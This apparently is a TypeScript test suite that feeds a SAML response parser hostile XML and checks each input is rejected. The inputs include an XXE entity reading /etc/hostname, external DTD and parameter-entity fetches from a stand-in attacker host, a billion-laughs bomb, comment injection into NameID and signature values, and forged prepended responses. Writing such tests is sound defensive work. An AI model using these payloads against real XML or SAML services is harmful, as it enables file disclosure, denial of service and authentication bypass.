// What XML can be made to do to its reader: document types, entities, comments, tricks with namespaces, and what comes
// after the end. Signed where the attacker could have had it signed.
import { encoded, testAttacks, type Attack } from './support/attacks';
import { assertionNamespace, nameId, protocol, subject, confirmation } from './support/message-parts';

const refusedMarkup = 'saml-forbidden-markup';
const notWellFormed = 'saml-malformed';

function prefixed(prefix: string): (xml: string) => string {
  return (xml) => prefix + xml;
}

const entities = Array.from({ length: 9 }, (_, level) => {
  const inner = level === 0 ? 'lol' : `&l${level - 1};`.repeat(10);
  return `<!ENTITY l${level} "${inner}">`;
});

const forbidden: readonly Attack[] = [
  ['a document type', refusedMarkup, (s) => s.response({ after: prefixed('<!DOCTYPE x>') })],
  ['a document type in small letters', refusedMarkup, (s) => s.response({ after: prefixed('<!doctype x>') })],
  [
    'a document type from elsewhere',
    refusedMarkup,
    (s) => s.response({ after: prefixed('<!DOCTYPE x SYSTEM "https://mallory.example/x.dtd">') }),
  ],
  [
    'an entity',
    refusedMarkup,
    (s) =>
      s.response({
        after: (xml) => `<!DOCTYPE x [<!ENTITY who "mallory">]>${xml.replace('anna.amsel', '&who;')}`,
      }),
  ],
  [
    'an entity that reads a file',
    refusedMarkup,
    (s) =>
      s.response({
        after: (xml) =>
          `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/hostname">]>${xml.replace('anna.amsel', '&f;')}`,
      }),
  ],
  [
    'a parameter entity',
    refusedMarkup,
    (s) =>
      s.response({ after: prefixed('<!DOCTYPE x [<!ENTITY % p SYSTEM "https://mallory.example/p"> %p;]>') }),
  ],
  [
    'a billion laughs',
    refusedMarkup,
    (s) =>
      s.response({
        after: (xml) => `<!DOCTYPE x [${entities.join('')}]>${xml.replace('anna.amsel', '&l8;')}`,
      }),
  ],
  [
    'a document type after a declaration',
    refusedMarkup,
    (s) => s.response({ after: prefixed('<?xml version="1.0"?><!DOCTYPE x>') }),
  ],
  [
    'a document type inside the root',
    refusedMarkup,
    (s) => s.response({ after: (xml) => xml.replace('<samlp:Status>', '<!DOCTYPE x>$&') }),
  ],
  [
    'a comment in the NameID',
    refusedMarkup,
    (s) => s.response({ before: (xml) => xml.replace('anna.amsel', 'anna<!---->.amsel') }),
  ],
  [
    'a comment in the NameID put there afterwards',
    refusedMarkup,
    (s) => s.response({ after: (xml) => xml.replace('anna.amsel', 'anna<!-- x -->.amsel') }),
  ],
  [
    'a comment in an attribute value',
    refusedMarkup,
    (s) => s.response({ before: (xml) => xml.replace('>alle<', '>al<!-- x -->le<') }),
  ],
  [
    'a comment in the DigestValue',
    refusedMarkup,
    (s) => s.response({ signing: { digestValue: (digest) => `<!--AAAA-->${digest}` } }),
  ],
  [
    'a comment in the SignatureValue',
    refusedMarkup,
    (s) => s.response({ after: (xml) => xml.replace('<ds:SignatureValue>', '$&<!--AAAA-->') }),
  ],
  ['a comment before the root', refusedMarkup, (s) => s.response({ after: prefixed('<!-- x -->') })],
  ['a comment after the root', refusedMarkup, (s) => s.response({ after: (xml) => `${xml}<!-- x -->` })],
  [
    'a character section',
    refusedMarkup,
    (s) => s.response({ before: (xml) => xml.replace('anna.amsel', '<![CDATA[anna.amsel]]>') }),
  ],
  [
    'a character section around markup',
    refusedMarkup,
    (s) => s.response({ after: (xml) => xml.replace('anna.amsel', '<![CDATA[</saml:NameID>]]>') }),
  ],
  [
    'a processing instruction',
    refusedMarkup,
    (s) => s.response({ before: (xml) => xml.replace('<samlp:Status>', '<?php x ?>$&') }),
  ],
  [
    'a style sheet instruction before the root',
    refusedMarkup,
    (s) => s.response({ after: prefixed('<?xml-stylesheet href="https://mallory.example/x.xsl"?>') }),
  ],
  [
    'a second XML declaration',
    refusedMarkup,
    (s) => s.response({ after: prefixed('<?xml version="1.0"?><?xml version="1.0"?>') }),
  ],
  [
    'a NUL in the NameID',
    refusedMarkup,
    (s) => s.response({ after: (xml) => xml.replace('anna.amsel', 'anna\u0000.amsel') }),
  ],
  ['a NUL at the end', refusedMarkup, (s) => s.response({ after: (xml) => `${xml}\u0000` })],
];

const trailing: readonly Attack[] = [
  ['text after the root', 'saml-trailing-text', (s) => s.response({ after: (xml) => `${xml}mallory` })],
  [
    'text before the root',
    ['saml-trailing-text', notWellFormed],
    (s) => s.response({ after: prefixed('mallory') }),
  ],
  ['a second root', 'saml-trailing-text', (s) => s.response({ after: (xml) => `${xml}<x></x>` })],
  ['a second response', 'saml-trailing-text', (s) => s.response({ after: (xml) => xml + xml })],
  [
    'a forged response before the genuine one',
    'saml-trailing-text',
    (s) => s.response({ after: (xml) => s.xml({ signed: [] }) + xml }),
  ],
  ['a closing tag too many', notWellFormed, (s) => s.response({ after: (xml) => `${xml}</samlp:Response>` })],
];

const broken: readonly Attack[] = [
  [
    'an end that is missing',
    notWellFormed,
    (s) => s.response({ after: (xml) => xml.replace('</samlp:Response>', '') }),
  ],
  ['a tag that does not close', notWellFormed, (s) => s.response({ after: (xml) => xml.slice(0, -1) })],
  [
    'tags that cross',
    notWellFormed,
    (s) =>
      s.response({
        after: (xml) =>
          xml.replace('</saml:NameID><saml:SubjectConfirmation', '<saml:SubjectConfirmation></saml:NameID'),
      }),
  ],
  [
    'an attribute twice',
    notWellFormed,
    (s) => s.response({ after: (xml) => xml.replace(' Version="2.0"', ' Version="2.0" Version="1.1"') }),
  ],
  [
    'an attribute twice under two prefixes',
    notWellFormed,
    (s) =>
      s.response({
        after: (xml) =>
          xml.replace('<samlp:Status>', '<samlp:Status xmlns:a="urn:x" xmlns:b="urn:x" a:n="1" b:n="2">'),
      }),
  ],
  [
    'an attribute without quotes',
    notWellFormed,
    (s) => s.response({ after: (xml) => xml.replace('Version="2.0"', 'Version=2.0') }),
  ],
  [
    'attributes without a space between them',
    notWellFormed,
    (s) => s.response({ after: (xml) => xml.replace(' Version="2.0"', 'Version="2.0"') }),
  ],
  [
    'a prefix that nobody declared',
    notWellFormed,
    (s) => s.response({ after: (xml) => xml.replace('<samlp:Status>', '<evil:x></evil:x>$&') }),
  ],
  [
    'an ampersand alone',
    notWellFormed,
    (s) => s.response({ after: (xml) => xml.replace('anna.amsel', 'anna & amsel') }),
  ],
  [
    'an entity of HTML',
    notWellFormed,
    (s) => s.response({ after: (xml) => xml.replace('anna.amsel', 'anna&nbsp;amsel') }),
  ],
  [
    'a reference to no character',
    notWellFormed,
    (s) => s.response({ after: (xml) => xml.replace('anna.amsel', 'anna&#0;amsel') }),
  ],
  [
    'a control character',
    notWellFormed,
    (s) => s.response({ after: (xml) => xml.replace('anna.amsel', 'anna\u0008amsel') }),
  ],
  [
    'bytes that are no UTF-8',
    notWellFormed,
    (s) => Buffer.from(s.xml().replace('anna', '\u00e4nna'), 'latin1').toString('base64'),
  ],
  [
    'UTF-16',
    [notWellFormed, refusedMarkup],
    (s) => Buffer.from(`\ufeff${s.xml()}`, 'utf16le').toString('base64'),
  ],
  [
    'a declared encoding that is another',
    [notWellFormed, refusedMarkup],
    (s) => s.response({ after: prefixed('<?xml version="1.0" encoding="utf-7"?>') }),
  ],
  ['no XML', [notWellFormed, 'saml-trailing-text'], () => encoded('hello')],
  ['JSON', [notWellFormed, 'saml-trailing-text'], () => encoded('{"NameID":"mallory"}')],
  ['a page', 'saml-root', () => encoded('<html><body></body></html>')],
  ['white space', [notWellFormed, 'saml-trailing-text'], () => encoded('  \n ')],
];

const namespaces: readonly Attack[] = [
  ['a response in no namespace', 'saml-root', () => encoded('<Response></Response>')],
  [
    'a response in the namespace of assertions',
    'saml-root',
    (s) => s.response({ response: { attributes: { 'xmlns:samlp': assertionNamespace } } }),
  ],
  [
    'a response in an invented namespace',
    'saml-root',
    (s) => s.response({ response: { attributes: { 'xmlns:samlp': 'urn:example:none' } } }),
  ],
  [
    'a response of SAML 1.1',
    'saml-root',
    (s) =>
      s.response({ response: { attributes: { 'xmlns:samlp': 'urn:oasis:names:tc:SAML:1.0:protocol' } } }),
  ],
  [
    'an assertion in an invented namespace',
    'saml-assertion-count',
    (s) => s.response({ assertion: { attributes: { 'xmlns:saml': 'urn:example:none' } } }),
  ],
  [
    'an assertion in the namespace of the protocol',
    'saml-assertion-count',
    (s) => s.response({ assertion: { attributes: { 'xmlns:saml': protocol } } }),
  ],
  [
    'a Subject in an invented namespace',
    'saml-subject',
    (s) =>
      s.response({
        assertion: {
          subject: subject(s.facts).replace('<saml:Subject>', '<saml:Subject xmlns:saml="urn:example:none">'),
        },
      }),
  ],
  [
    'a NameID in an invented namespace',
    'saml-subject',
    (s) =>
      s.response({
        assertion: {
          subject: subject(
            s.facts,
            nameId(s.facts, 'anna.amsel', { 'xmlns:saml': 'urn:example:none' }) + confirmation(s.facts),
          ),
        },
      }),
  ],
  [
    'an attribute of the assertion in a namespace',
    ['saml-version', 'saml-malformed'],
    (s) => s.response({ assertion: { attributes: { Version: null, 'saml:Version': '2.0' } } }),
  ],
  [
    'a prefix that is taken away',
    notWellFormed,
    (s) => s.response({ after: (xml) => xml.replace('<samlp:Status>', '<samlp:Status xmlns:saml="">') }),
  ],
  [
    'the prefix xml for something else',
    notWellFormed,
    (s) =>
      s.response({
        after: (xml) => xml.replace('<samlp:Status>', '<samlp:Status xmlns:xml="urn:example:none">'),
      }),
  ],
  [
    'a root that is an assertion',
    'saml-root',
    (s) => encoded(/<saml:Assertion .*<\/saml:Assertion>/s.exec(s.xml())?.[0] ?? ''),
  ],
  [
    'a root that asks for a logout',
    'saml-root',
    (s) => s.response({ after: (xml) => xml.replaceAll('samlp:Response', 'samlp:LogoutResponse') }),
  ],
];

testAttacks([...forbidden, ...trailing, ...broken, ...namespaces]);
